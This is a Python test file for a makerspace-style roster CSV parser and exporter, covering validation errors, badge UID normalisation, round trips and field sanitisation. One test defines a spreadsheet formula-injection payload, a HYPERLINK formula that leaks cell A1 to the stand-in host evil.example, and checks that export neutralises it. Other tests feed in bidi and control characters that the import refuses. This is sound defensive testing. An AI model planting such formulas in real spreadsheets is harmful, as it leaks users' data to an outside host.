"""Roster CSV: all or nothing, every bad line reported with its number and reason."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from station.errors import RosterError
from station.model import Badge, Level, Member, Qualification, Role
from station.roster import (
    BIDI,
    normalise_uid,
    parse_qualifications,
    parse_roster_csv,
    roster_to_csv,
    unsafe_text,
)
from tests.conftest import sample_roster_text

HEADER = "member_id,name,role,badge_uid,qualifications\n"


def test_sample_roster_parses() -> None:
    r = parse_roster_csv(sample_roster_text())
    assert len(r.members) == 7 and len(r.badges) == 7
    assert Qualification("lea", "laser", Level.SUPERVISED) in r.qualifications


def test_several_badges_for_one_member() -> None:
    text = (
        HEADER
        + "lea,Léa Martin,trainee,04b0b1b2,laser:supervised\n"
        + ("lea,Léa Martin,trainee,04:B0:B1:B3,laser:supervised\n")
    )
    r = parse_roster_csv(text)
    assert [m.id for m in r.members] == ["lea"]
    assert sorted(b.uid for b in r.badges) == ["04B0B1B2", "04B0B1B3"]


def test_bad_rows_are_all_reported_and_nothing_is_imported() -> None:
    text = HEADER + (
        "ok,Ok Person,trainee,01020304,\n"
        "bad uid,Someone,trainee,XYZ,\n"
        "x2,,wizard,0102030405,laser:expert\n"
        "x3,Name,trainee,01020304,\n"
        "x4,Name,trainee\n"
    )
    with pytest.raises(RosterError) as e:
        parse_roster_csv(text, "roster.csv")
    msg = str(e.value)
    assert "nothing was imported" in msg
    assert "line 3: member_id 'bad uid'" in msg
    assert "line 3: badge_uid 'XYZ'" in msg
    assert "line 4: name is empty" in msg and "line 4: role 'wizard'" in msg
    assert "line 4: badge_uid '0102030405'" in msg  # 5 bytes: not a real UID length
    assert "line 4: qualification level 'expert'" in msg
    assert "line 5: badge 01020304 is already given to ok on line 2" in msg
    assert "line 6: expected 5 fields" in msg


def test_header_must_match() -> None:
    with pytest.raises(RosterError, match="line 1: the header must be exactly"):
        parse_roster_csv("id,name\n")
    with pytest.raises(RosterError, match="empty"):
        parse_roster_csv("")


def test_rows_of_one_member_must_agree() -> None:
    text = HEADER + "a,Ann,trainee,01020304,\n" + "a,Ann,educator,01020305,\n"
    with pytest.raises(RosterError, match="line 3: member a is on line 2"):
        parse_roster_csv(text)


def test_qualifications_syntax() -> None:
    assert parse_qualifications(" laser:Autonomous ; cnc:mentor;") == {
        "laser": Level.AUTONOMOUS,
        "cnc": Level.MENTOR,
    }
    for bad in ("laser", "laser:none", "laser:mentor;laser:supervised", "La ser:mentor"):
        with pytest.raises(ValueError):
            parse_qualifications(bad)


@given(st.binary(min_size=4, max_size=4) | st.binary(min_size=7, max_size=7))
def test_uid_normalisation(raw: bytes) -> None:
    assert normalise_uid(raw.hex()) == raw.hex().upper()
    assert normalise_uid(":".join(f"{b:02x}" for b in raw)) == raw.hex().upper()


names = (
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters=BIDI),
        min_size=1,
        max_size=20,
    )
    | st.tuples(st.sampled_from(["=", "+", "-", "@", "'", "''"]), st.text(max_size=5)).map("".join)
).filter(lambda s: s.strip() == s and s and unsafe_text(s, "name") is None)


@given(
    st.lists(
        st.tuples(
            st.from_regex(r"[a-z][a-z0-9]{0,8}", fullmatch=True),
            names,
            st.sampled_from(list(Role)),
            st.binary(min_size=4, max_size=4),
            st.dictionaries(
                st.sampled_from(["laser", "cnc", "printer3d"]),
                st.sampled_from([Level.SUPERVISED, Level.AUTONOMOUS, Level.MENTOR]),
            ),
        ),
        max_size=8,
        unique_by=(lambda t: t[0], lambda t: t[3]),
    )
)
def test_export_import_round_trip(rows: list) -> None:
    members = [Member(i, n, r) for i, n, r, _, _ in rows]
    badges = [Badge(u.hex().upper(), i) for i, _, _, u, _ in rows]
    quals = [Qualification(i, k, lv) for i, _, _, _, q in rows for k, lv in q.items()]
    parsed = parse_roster_csv(roster_to_csv(members, badges, quals))
    assert parsed.members == members
    assert sorted(b.uid for b in parsed.badges) == sorted(b.uid for b in badges)
    assert sorted(parsed.qualifications, key=str) == sorted(quals, key=str)


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Clique ici")'


def test_export_neutralises_formulas_and_import_takes_it_back() -> None:
    members = [Member("lea", HYPERLINK, Role.TRAINEE), Member("noah", "-2+3", Role.TRAINEE)]
    text = roster_to_csv(members, [], [])
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert row[1][0] == "'", row  # a spreadsheet shows it, never runs it
    assert [m.name for m in parse_roster_csv(text).members] == [HYPERLINK, "-2+3"]


@pytest.mark.parametrize(
    ("cell", "message"),
    [
        ("L\u00e9a\u0007", "line 2: name holds a control character (U+0007); remove it"),
        ("L\u00e9a\u202eartin", "line 2: name holds an invisible character that turns text around"),
        ("x" * 121, "line 2: name is longer than 120 characters"),
        ('"L\u00e9a\nMartin"', "line 2: name holds a control character (U+000A)"),
    ],
)  # fmt: skip
def test_import_refuses_control_and_bidi_characters_and_long_fields(
    cell: str, message: str
) -> None:
    text = f"member_id,name,role,badge_uid,qualifications\nlea,{cell},trainee,,\n"
    with pytest.raises(RosterError) as e:
        parse_roster_csv(text)
    assert message in str(e.value) and "nothing was imported" in str(e.value)
